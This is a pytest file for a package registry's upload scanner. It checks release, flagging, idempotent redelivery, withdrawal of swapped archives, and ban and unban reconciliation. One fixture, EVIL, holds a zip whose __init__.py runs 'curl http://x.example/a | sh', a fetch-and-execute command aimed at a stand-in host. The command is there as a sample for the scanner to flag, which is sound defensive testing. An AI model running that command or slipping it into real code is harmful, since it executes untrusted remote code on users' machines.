"""The scanner's use cases on the fakes: a verdict releases exactly the judged bytes or withdraws them, a redelivered
event changes nothing, a rescan that meets other bytes flags, and release reconciliation follows the registry's events.
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable

import pytest

from functions.registry.moderation import usecases as moderation
from functions.scanner import apply, release
from functions.scanner.limits import ScanLimits
from shared.adapters.cdn import RecordingCdnInvalidator
from shared.events import EventType
from shared.settings import Settings
from shared.statuses import VersionStatus
from tests.fakes import FakeBlobs, FakeUnitOfWork, Store
from tests.scanner.support import make_zip
from tests.usecases.world import ADMIN, publish, publisher

Uow = Callable[[], FakeUnitOfWork]
CLEAN = make_zip({"__init__.py": "NODE_CLASS_MAPPINGS = {'Blur': object}\n"})
EVIL = make_zip({"__init__.py": "import os\nos.system('curl http://x.example/a | sh')\n"})
LIMITS = ScanLimits()


@pytest.fixture
def pending(uow: Uow, store: Store, blobs: FakeBlobs, settings: Settings) -> str:
    """A published version whose upload holds CLEAN; returns its quarantine path."""
    published = publish(uow, blobs, settings, publisher(uow), "pack")
    path = store.versions[published.version.id].storage_path
    blobs.uploads[path] = CLEAN
    return path


def test_a_clean_verdict_releases_the_judged_bytes_then_activates(
    uow: Uow, store: Store, blobs: FakeBlobs, pending: str
) -> None:
    result = apply.scan_stored(uow(), blobs, LIMITS, pending, "event-1")
    row = next(iter(store.versions.values()))
    assert (result.outcome, result.status) == ("scanned", VersionStatus.ACTIVE)
    assert row.release_path == "alice-pub/pack/1.0.0/node.zip" and blobs.released[row.release_path] == CLEAN
    assert row.archive_sha256 == hashlib.sha256(CLEAN).hexdigest() and row.archive_size == len(CLEAN)
    assert store.event_types()[-2:] == [EventType.VERSION_SCANNED, EventType.VERSION_STATUS_CHANGED]

    # The same delivery again, and a later one of the same upload, change nothing.
    events = len(store.events)
    assert apply.scan_stored(uow(), blobs, LIMITS, pending, "event-1").outcome == "unchanged"
    assert apply.scan_stored(uow(), blobs, LIMITS, pending, "event-2").outcome == "unchanged"
    assert len(store.events) == events


def test_a_flagged_verdict_never_reaches_the_public_location(
    uow: Uow, store: Store, blobs: FakeBlobs, pending: str
) -> None:
    blobs.uploads[pending] = EVIL
    result = apply.scan_stored(uow(), blobs, LIMITS, pending, "event-1")
    assert (result.outcome, result.status) == ("scanned", VersionStatus.FLAGGED)
    assert "Flagged by automated checks" in result.reason
    assert not blobs.released and next(iter(store.versions.values())).release_path is None


def test_a_lost_upload_deletes_the_version_and_an_unknown_path_is_ignored(
    uow: Uow, store: Store, blobs: FakeBlobs, pending: str
) -> None:
    del blobs.uploads[pending]
    assert apply.scan_stored(uow(), blobs, LIMITS, pending, "event-1").status == VersionStatus.DELETED
    assert apply.scan_stored(uow(), blobs, LIMITS, "nobody/x/1/a/node.zip", "event-2").outcome == "unknown"


def test_a_rescan_meeting_other_bytes_flags_and_withdraws(
    uow: Uow, store: Store, blobs: FakeBlobs, pending: str
) -> None:
    apply.scan_stored(uow(), blobs, LIMITS, pending, "event-1")
    blobs.uploads[pending] = make_zip({"__init__.py": "NODE_CLASS_MAPPINGS = {}\n# swapped\n"})
    result = apply.scan_stored(uow(), blobs, LIMITS, pending, "rescan-1", rescan=True)
    assert result.status == VersionStatus.FLAGGED and result.reason == release.CHANGED_AFTER_VERDICT
    assert not blobs.released and "alice-pub/pack/1.0.0/node.zip" in blobs.withdrawn


def test_another_archive_already_released_under_the_number_flags(
    uow: Uow, store: Store, blobs: FakeBlobs, pending: str
) -> None:
    blobs.released["alice-pub/pack/1.0.0/node.zip"] = b"PK an older release"
    result = apply.scan_stored(uow(), blobs, LIMITS, pending, "event-1")
    assert (result.status, result.reason) == (VersionStatus.FLAGGED, release.RELEASE_CONFLICT)
    assert blobs.released["alice-pub/pack/1.0.0/node.zip"] == b"PK an older release"


def test_the_sweep_scans_what_was_left_pending_and_releases_what_is_due(
    uow: Uow, store: Store, blobs: FakeBlobs, pending: str
) -> None:
    counts = apply.sweep(uow, blobs, LIMITS, older_than_minutes=0)
    assert counts == {"scanned": 1}
    row = next(iter(store.versions.values()))
    row.release_path = None  # as if the version had been active before quarantine existed
    blobs.released.clear()
    assert apply.sweep(uow, blobs, LIMITS, older_than_minutes=0) == {"release_released": 1}
    assert blobs.released[row.release_path or ""] == CLEAN


def test_release_events_follow_bans_and_unbans(uow: Uow, store: Store, blobs: FakeBlobs, pending: str) -> None:
    apply.scan_stored(uow(), blobs, LIMITS, pending, "event-1")
    moderation.ban_node(uow(), blobs, RecordingCdnInvalidator(), ADMIN, "alice-pub", "pack", "stolen")
    assert not blobs.released
    # Applying the ban's event again is harmless; the unban's event brings the release back.
    assert release.apply_event(uow, blobs, EventType.NODE_BANNED, {"node_id": "pack"}) == {"unchanged": 1}
    moderation.unban_node(uow(), ADMIN, "alice-pub", "pack", "appeal")
    assert release.apply_event(uow, blobs, EventType.NODE_UNBANNED, {"node_id": "pack"}) == {"released": 1}
    assert blobs.released == {"alice-pub/pack/1.0.0/node.zip": CLEAN}
    assert store.event_types()[-1] == EventType.VERSION_RELEASED
    assert release.apply_event(uow, blobs, EventType.NODE_REVIEWED, {"node_id": "pack"}) == {}


def test_an_admin_activation_releases_what_was_never_scanned_and_a_swap_is_caught(
    uow: Uow, store: Store, blobs: FakeBlobs, pending: str
) -> None:
    row = next(iter(store.versions.values()))
    row.status = VersionStatus.ACTIVE  # an admin's decision, without a scan
    assert release.reconcile(uow(), blobs, row.id) == "released"
    assert row.archive_sha256 == hashlib.sha256(CLEAN).hexdigest()

    blobs.released.clear()
    row.release_path = None
    blobs.uploads[pending] = b"PK other bytes"
    assert release.reconcile(uow(), blobs, row.id) == "mismatch"
    assert row.status == VersionStatus.FLAGGED and not blobs.released
